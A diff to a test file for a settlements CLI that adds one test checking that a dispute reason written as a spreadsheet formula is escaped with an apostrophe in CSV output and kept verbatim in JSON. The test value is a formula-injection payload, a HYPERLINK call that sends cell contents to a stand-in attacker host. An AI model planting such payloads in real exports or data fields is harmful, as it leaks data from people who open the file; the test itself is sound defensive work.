@@ -576,6 +576,18 @@ describe('premia settlements dispute', () => {
     expect((await cli(['settlements', 'dispute', 'SETTLE-2026-11-001', '--reason', 'y'.repeat(500)])).code).toBe(0);
   });
 
+  it('a reason written as a formula is kept as written and listed in CSV after an apostrophe', async () => {
+    const { cli } = await fixtureStore('2026-12-02');
+    await cli(['settlements', 'create', '--period', FIXTURE_PERIOD]);
+    const reason = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    expect((await cli(['settlements', 'dispute', 'SETTLE-2026-11-001', '--reason', reason])).code).toBe(0);
+    const csv = await cli(['settlements', 'list', '--format', 'csv', '--fields', 'settlement_number,dispute_reason']);
+    expect(csv.code).toBe(0);
+    expect(csv.stdout).toBe('settlement_number,dispute_reason\nSETTLE-2026-11-001,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"\n');
+    const json = await cli(['settlements', 'list', '--format', 'json', '--fields', 'dispute_reason']);
+    expect(json.json()).toEqual([{ dispute_reason: reason }]);
+  });
+
   it('--reason is required', async () => {
     const { cli } = await fixtureStore('2026-12-02');
     expect((await cli(['settlements', 'dispute', 'SETTLE-2026-11-001'])).code).toBe(2);
